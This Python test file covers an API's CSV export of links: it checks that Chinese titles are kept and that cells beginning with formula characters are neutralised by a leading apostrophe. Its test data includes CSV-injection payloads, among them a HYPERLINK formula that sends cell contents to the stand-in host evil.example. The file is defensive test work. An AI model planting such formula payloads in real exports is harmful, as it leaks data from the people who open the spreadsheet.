"""CSV over HTTP, read back with pandas as a spreadsheet user's tools would: Chinese text intact."""

from __future__ import annotations

import io

import pandas
import requests

from support import Devserver, alias


def test_the_link_list_as_csv_keeps_chinese_titles(server: Devserver, api: requests.Session) -> None:
    tag = alias("csv")
    made = [api.post(f"{server.url}/api/links", json={"url": f"https://example.com/{i}", "title": f"双十一活动 第{i}场",
                                                      "tags": [tag, "促销"]}).json() for i in range(3)]
    server.drain()  # listed once the search index has them (kept from the stream)
    answer = api.get(f"{server.url}/api/links", params={"format": "csv", "tag": tag})
    assert answer.status_code == 200 and answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.content.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    assert answer.headers["Content-Disposition"] == 'attachment; filename="links.csv"'
    sheet = pandas.read_csv(io.BytesIO(answer.content), encoding="utf-8-sig")
    assert sorted(sheet["title"]) == sorted(link["title"] for link in made)
    assert set(sheet["code"]) == {link["code"] for link in made} and set(sheet["tags"]) == {f"{tag};促销"}
    by_accept = api.get(f"{server.url}/api/links", params={"tag": tag}, headers={"Accept": "text/csv"})
    assert by_accept.content == answer.content



RISKY = ("=", "+", "-", "@", "\t", "\r")
DANGEROUS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR"]


def formula_free_export(make: requests.Session, export: requests.Session, server: Devserver) -> None:
    """Links whose titles and tags start with = + - @ tab CR, made by one key and exported by
    another (or the same): every such cell comes back as text (a leading apostrophe), read back
    intact by pandas (OWASP's CSV injection rule)."""
    url = server.url
    tag = alias("formula")
    for number, text in enumerate(DANGEROUS):
        made = make.post(f"{url}/api/links", json={"url": f"https://example.com/f{number}", "title": text, "tags": [tag]})
        assert made.status_code == 201, made.text
    assert make.post(f"{url}/api/links", json={"url": "https://example.com/tagged", "tags": ["=cmd", tag]}).status_code == 201
    server.drain()
    answer = export.get(f"{url}/api/links", params={"format": "csv", "tag": tag, "limit": 100})
    assert answer.status_code == 200
    sheet = pandas.read_csv(io.BytesIO(answer.content), encoding="utf-8-sig", keep_default_na=False)
    assert len(sheet) == len(DANGEROUS) + 1
    stored = {link["title"] for link in make.get(f"{url}/api/links", params={"tag": tag, "limit": 100}).json()["links"]}
    assert len(stored & set(DANGEROUS)) >= 4  # the API keeps them as they are (leading blanks aside)
    assert set(sheet["title"]) - {""} == {"'" + title if title.startswith(RISKY) else title for title in stored if title}
    assert any(tags.startswith("'=cmd") for tags in sheet["tags"])
    assert [cell for column in sheet.columns for cell in map(str, sheet[column]) if cell.startswith(RISKY)] == []


def test_no_cell_of_the_link_list_is_a_formula(server: Devserver, api: requests.Session) -> None:
    formula_free_export(api, api, server)
